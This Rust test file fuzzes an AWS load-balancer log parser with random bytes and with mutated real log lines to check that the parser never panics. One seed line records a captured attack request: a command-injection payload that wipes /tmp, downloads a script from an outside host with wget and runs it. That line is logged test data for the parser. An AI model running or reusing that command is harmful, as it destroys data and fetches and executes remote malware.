//! Property tests: no input makes the parser or its helpers panic.

use proptest::prelude::*;

use super::*;

/// A few real lines (alb-public.log lines 2, 9, 11, 22, 32, 38, 45, 47, 51).
const SEEDS: &[&str] = &[
    r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
    r#"http 2021-03-17T18:54:14.216357Z app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f 113.241.19.90:15070 - -1 -1 -1 400 - 0 272 "- http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2021-03-17T18:54:13.967000Z "-" "-" "-" "-" "-" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"#,
    r#"https 2021-03-16T20:20:00.135052Z app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b 2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599 fd6d:6bbc:c529:6::face:ed83:f46:80 0.001 0.052 0.000 200 200 589 2084 "POST https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50 HTTP/1.1" "User 1.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb-AWSEB-91MZX0WA1A0F/5a03cc723870f039 "Root=1-605112f0-31f367be4fd3da651daa4157" "some.domain.com" "arn:aws:acm:us-east-1:765229915481:certificate/d8450a8a-b4f6-4714-8535-17c625c36899" 0 2021-03-16T20:20:00.081000Z "waf,forward" "-" "-" "fd6d:6bbc:c529:27ff:b::dead:ed84:80" "200" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"#,
    r#"h2 2020-01-11T01:11:10.111111Z app/myalb/0123456789abcdef 1.123.123.123:12345 10.0.1.100:80 0.000 0.159 0.000 200 200 315 488 "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0" "\x22Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x22" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "example.com" "session-reused" 1 2020-01-11T01:11:10.111111Z "forward" "-" "-" "10.0.1.100:80" "200" "-" "-""#,
    r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess""#,
    r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#,
    r#"http 2018-02-17T00:27:06.137534Z app/test-alb-2/f7ca0e3e37d2be5b 138.197.220.19:39159 172.31.58.138:80 0.000 0.001 0.000 404 404 470 726 "GET http://test-alb-2-1761877747.us-east-1.elb.amazonaws.com:80/favicon.ico HTTP/1.1" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.167 Safari/537.36" - - arn:aws:elasticloadbalancing:us-east-1:729997878290:targetgroup/test/58a0da13ddb64875 "Root=1-5a8776da-6a10cd6c6b28b4903311442a" "-" "-""#,
    r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 [fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#,
    r#"https 2022-12-31T23:55:00.388951Z app/azul-gitlab-alb/c051f98624e68d7e 172.71.0.215:36056 172.71.0.215:80 0.000 0.002 0.000 204 204 963 229 "POST https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars=\xf0\x9f\x98\x80 HTTP/1.1" "gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; \xf0\x9f\x98\x80)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:122796619775:targetgroup/azul-gitlab-http/136c2d6db59941f6 "Root=1-63b0cbd4-7d218b82786295005dbf8b6d" "gitlab.dev.singlecell.gi.ucsc.edu" "arn:aws:acm:us-east-1:122796619775:certificate/81241b8e-c875-4a22-a30e-58003ee139ae" 0 2022-12-31T23:55:00.386000Z "forward" "-" "-" "172.71.0.215:80" "204" "-" "-""#,
];

/// Bytes that matter to the tokenizer and field parsers, plus UTF-8 lead and
/// continuation bytes (so lossy decoding yields multi-byte chars and U+FFFD).
const INTERESTING: &[u8] = b" \"-:.[]\\x0129Z/?{}\r\n\t\xc3\x88\xf0\x9f\x98\x80\xff";

#[derive(Debug, Clone)]
enum Edit {
    Replace(usize, u8),
    Insert(usize, u8),
    Delete(usize),
    Truncate(usize),
    DuplicateSpan(usize, usize),
}

fn byte() -> impl Strategy<Value = u8> {
    prop_oneof![any::<u8>(), proptest::sample::select(INTERESTING)]
}

fn edit() -> impl Strategy<Value = Edit> {
    prop_oneof![
        (any::<usize>(), byte()).prop_map(|(i, b)| Edit::Replace(i, b)),
        (any::<usize>(), byte()).prop_map(|(i, b)| Edit::Insert(i, b)),
        any::<usize>().prop_map(Edit::Delete),
        any::<usize>().prop_map(Edit::Truncate),
        (any::<usize>(), 0usize..80).prop_map(|(i, n)| Edit::DuplicateSpan(i, n)),
    ]
}

fn apply(seed: &str, edits: &[Edit]) -> String {
    let mut b = seed.as_bytes().to_vec();
    for e in edits {
        let n = b.len().max(1);
        match *e {
            Edit::Replace(i, v) if !b.is_empty() => b[i % n] = v,
            Edit::Insert(i, v) => b.insert(i % (b.len() + 1), v),
            Edit::Delete(i) if !b.is_empty() => {
                b.remove(i % n);
            }
            Edit::Truncate(i) => b.truncate(i % (b.len() + 1)),
            Edit::DuplicateSpan(i, len) if !b.is_empty() => {
                let start = i % n;
                let end = (start + len).min(b.len());
                let span = b[start..end].to_vec();
                b.splice(start..start, span);
            }
            _ => {}
        }
    }
    String::from_utf8_lossy(&b).into_owned()
}

/// Everything a caller may do with a line; must not panic.
fn exercise(line: &str) {
    let routes = Routes::new(&["/api/{v}/items".to_string(), "/static/*".to_string()]).unwrap();
    match parse_line(line) {
        Ok(r) => {
            assert!(r.field_count >= MIN_FIELDS);
            let _ = r.latency_ms();
            // Method / URL / protocol are sub-slices of the request.
            let (method, url, protocol) = r.request_parts();
            for part in [method, url, protocol].into_iter().flatten() {
                assert!(r.request.contains(part));
            }
            if let Some(url) = url {
                let u = split_url(url);
                let path = u.path.unwrap_or("/");
                let _ = routes.endpoint(path);
                let _ = Routes::default().endpoint(path);
                let _ = decode_escapes(url);
            }
            for s in [r.user_agent, r.redirect_url, r.trace_id]
                .into_iter()
                .flatten()
            {
                let _ = decode_escapes(s);
            }
        }
        Err(e) => {
            let msg = e.to_string();
            assert!(msg.len() < 400, "{msg}");
        }
    }
    let _ = split_url(line);
    let _ = decode_escapes(line);
    let _ = Routes::default().endpoint(line);
    let _ = routes.endpoint(line);
}

// Byte-by-byte generation is slow in debug builds: fewer cases for the long
// random inputs, more for the cheap mutations of real lines.
proptest! {
    #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(byte(), 0..600)) {
        exercise(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn token_soup_never_panics(s in r#"([ "\-:\[\]\\x0-9a-fA-FZT./?{}]|é|😀){0,300}"#) {
        exercise(&s);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

    #[test]
    fn mutated_sample_lines_never_panic(
        seed in proptest::sample::select(SEEDS),
        edits in proptest::collection::vec(edit(), 1..8),
    ) {
        exercise(&apply(seed, &edits));
    }

    #[test]
    fn route_templates_never_panic(
        templates in proptest::collection::vec(r"[/{}*a-z0-9_?\- ]{0,20}", 0..4),
        path in r"[/{}*a-z0-9_?\-é]{0,40}",
    ) {
        if let Ok(routes) = Routes::new(&templates) {
            let _ = routes.endpoint(&path);
        }
    }
}

#[test]
fn seeds_parse() {
    for s in SEEDS {
        parse_line(s).unwrap();
    }
}
